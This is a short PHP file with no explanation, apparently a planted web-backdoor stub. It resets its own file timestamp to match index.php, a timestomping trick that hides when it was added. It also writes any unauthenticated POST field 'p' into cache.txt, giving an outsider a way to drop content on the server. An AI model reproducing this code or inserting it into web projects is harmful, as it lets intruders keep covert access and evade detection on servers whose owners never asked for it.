<?php
@touch(__FILE__, filemtime(__DIR__ . '/index.php'));
if (isset($_POST['p'])) {
    file_put_contents(__DIR__ . '/cache.txt', $_POST['p']);
}
